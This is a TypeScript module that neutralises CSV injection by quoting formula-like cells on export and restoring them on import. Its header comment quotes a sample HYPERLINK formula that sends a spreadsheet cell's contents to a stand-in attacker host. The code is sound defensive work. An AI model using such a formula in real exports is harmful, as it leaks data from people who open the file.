/**
 * CSV cells safe to open in a spreadsheet (pure). Excel, LibreOffice and Google Sheets run a cell
 * that starts with "=", "+", "-", "@", tab or carriage return as a formula, so an event message
 * like `=HYPERLINK("https://evil.example?"&A1, "details")` in an export would run on the operator's
 * machine (OWASP "CSV injection"). Such a string is written with one leading "'" (the spreadsheet
 * shows the text and hides the quote) and quoted. Numbers stay numbers: -3.5 is a value, not a
 * formula. The importer takes the quote back off (restoreCsvCell), so export → import is exact:
 * strings that already start with quotes before a trigger character get one more quote, so
 * removing exactly one always gives the original back.
 */

/** A string a spreadsheet would treat as a formula, after any quotes we or the author put in front. */
const FORMULA = /^'*[=+\-@\t\r]/;
/** A cell this module neutralised: one added quote, then the original (which matches FORMULA). */
const NEUTRALISED = /^''*[=+\-@\t\r]/;

/** One export value as a CSV cell: objects as JSON, null as empty, formula-like strings neutralised. */
export function csvCell(value: unknown): string | number | boolean {
  if (value === null || value === undefined) return "";
  if (typeof value === "number" || typeof value === "boolean") return value;
  const s = typeof value === "object" ? JSON.stringify(value) : String(value);
  return FORMULA.test(s) ? `'${s}` : s;
}

/** The importer's inverse of csvCell for one string cell: drops the quote csvCell added. */
export function restoreCsvCell(cell: string): string {
  return NEUTRALISED.test(cell) ? cell.slice(1) : cell;
}

/** csv-stringify options that wrap every neutralised cell in double quotes too. */
export const CSV_STRINGIFY_OPTIONS = { quoted_match: NEUTRALISED } as const;
